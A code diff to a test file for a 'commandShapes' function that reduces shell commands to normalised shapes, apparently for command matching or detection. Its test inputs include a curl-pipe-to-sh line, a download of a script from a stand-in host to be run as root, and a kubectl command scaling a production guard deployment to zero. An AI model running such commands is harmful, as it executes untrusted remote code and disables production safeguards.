@@ -32,6 +32,17 @@ describe('commandShapes', () => {
     expect(commandShapes('curl -s https://a.example/x | sh')).toEqual([`${SHAPE_MARK}curl https://a.example/x`]);
   });
 
+  it('an observation keeps two: the whole command’s and the longest prefix ending on a specific operand', () => {
+    expect(commandShapes('curl -o /tmp/qr.sh -fsSL https://relay.qr.example/s.sh and then run it as root', true, false)).toEqual([
+      `${SHAPE_MARK}curl /tmp/qr.sh https://relay.qr.example/s.sh`,
+      `${SHAPE_MARK}curl /tmp/qr.sh and as https://relay.qr.example/s.sh it root run then`,
+    ]);
+    expect(commandShapes('kubectl scale deployment/pump-guard --replicas=0 -n prod', true, false)).toEqual([
+      `${SHAPE_MARK}kubectl 0 deployment/pump-guard scale`,
+      `${SHAPE_MARK}kubectl 0 deployment/pump-guard prod scale`,
+    ]);
+  });
+
   it('no shape without a specific operand (a stock command stays stock)', () => {
     expect(commandShapes('git push --force origin main')).toEqual([]);
     expect(commandShapes('npm install after pulling')).toEqual([]);
@@ -118,7 +129,7 @@ describe('a line that starts with a program name is no command without evidence 
   it('"Node 18 reached end of life" gives no shape; a flagged command does', () => {
     expect(values('Node 18 reached end of life in April.', 'command').filter((v) => v.startsWith(SHAPE_MARK))).toEqual([]);
     expect(values('node --max-old-space-size=4096 scripts/build.mjs', 'command').filter((v) => v.startsWith(SHAPE_MARK))).toContain(
-      `${SHAPE_MARK}node 4096`,
+      `${SHAPE_MARK}node 4096 scripts/build.mjs`,
     );
   });
 });
